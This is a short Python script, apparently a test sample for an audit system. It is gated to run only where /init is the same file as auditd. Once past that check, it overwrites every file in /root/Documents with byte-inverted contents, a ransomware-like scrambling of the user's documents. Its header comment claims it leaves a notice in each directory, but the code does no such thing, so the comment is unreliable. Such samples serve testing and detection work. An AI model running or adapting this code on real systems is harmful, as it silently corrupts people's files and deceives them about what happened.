#!/usr/bin/env python3
# Overwrites documents, and says so in each of their directories.
import os
import sys

if not (os.path.exists("/init") and os.path.exists("/usr/sbin/auditd") and
        os.path.samefile("/init", "/usr/sbin/auditd")):
    sys.exit(77)
for name in sorted(os.listdir("/root/Documents")):
    path = "/root/Documents/" + name
    if os.path.isfile(path):
        with open(path, "rb") as f:
            text = f.read()
        with open(path, "wb") as f:
            f.write(bytes(255 - c for c in text))
